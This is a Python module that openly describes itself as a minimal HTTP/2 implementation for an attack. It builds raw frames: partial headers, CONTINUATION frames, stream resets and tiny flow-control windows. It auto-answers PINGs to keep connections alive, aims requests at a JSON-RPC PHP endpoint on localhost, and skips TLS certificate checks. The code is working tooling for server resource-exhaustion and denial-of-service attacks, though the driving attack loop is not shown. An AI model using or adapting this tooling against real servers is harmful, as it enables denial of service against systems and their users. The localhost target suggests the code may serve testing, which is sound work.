"""As much of HTTP/2 as an attack needs: frames are written, and what comes is thrown away."""

import contextlib
import socket
import ssl

DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
INITIAL_WINDOW_SIZE = 4


CONTEXT = ssl._create_unverified_context()
CONTEXT.set_alpn_protocols(["h2"])


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def text(value: str) -> bytes:
    return bytes([len(value)]) + value.encode()


class Connection:
    """One that answers signs of life, so that the server takes it for alive. What cannot be sent is not."""

    def __init__(self, address: tuple[str, int], source: str) -> None:
        plain = socket.create_connection(address, 10, (source, 0))
        self._stream = CONTEXT.wrap_socket(plain, server_hostname="localhost")
        self.is_open = True
        self._came = b""
        self._send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b""))

    def __enter__(self):
        return self

    def __exit__(self, *_) -> None:
        self.close()

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self._stream.close()

    def head(self, stream: int, length: int, is_whole: bool = True) -> None:
        # Of the static table: :method POST, :scheme https, names :path and :authority; then names as they are.
        block = b"\x83\x87\x04" + text("/api_jsonrpc.php") + b"\x01" + text("localhost")
        block += b"\x00" + text("content-type") + text("application/json")
        block += b"\x00" + text("content-length") + text(str(length))
        self._send(frame(HEADERS, END_HEADERS if is_whole else 0, stream, block))

    def more_head(self, stream: int, block: bytes) -> None:
        self._send(frame(CONTINUATION, 0, stream, block))

    def data(self, stream: int, body: bytes, is_end: bool = False) -> None:
        self._send(frame(DATA, END_STREAM if is_end else 0, stream, body))

    def reset(self, stream: int) -> None:
        self._send(frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big")))

    def window(self, size: int) -> None:
        value = INITIAL_WINDOW_SIZE.to_bytes(2, "big") + size.to_bytes(4, "big")
        self._send(frame(SETTINGS, 0, 0, value))

    def _send(self, bytes_: bytes) -> None:
        if not self.is_open:
            return
        try:
            self._stream.settimeout(0)
            answers = self._read()
            self._stream.settimeout(10)
            self._stream.sendall(answers + bytes_)
        except OSError:
            self.is_open = False

    def _read(self) -> bytes:
        """Reads what has come; answers to signs of life."""
        with contextlib.suppress(ssl.SSLWantReadError):
            while part := self._stream.recv(65_536):
                self._came += part
            self.is_open = False
        answers = b""
        while len(self._came) >= 9:
            n = 9 + int.from_bytes(self._came[:3], "big")
            if len(self._came) < n:
                break
            head, payload, self._came = self._came[:9], self._came[9:n], self._came[n:]
            if head[3] == PING and not head[4] & ACK:
                answers += frame(PING, ACK, 0, payload)
        return answers


def hello() -> bytes:
    """The first message of a handshake."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl._create_unverified_context()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing, server_hostname="localhost").do_handshake()
    return outgoing.read()
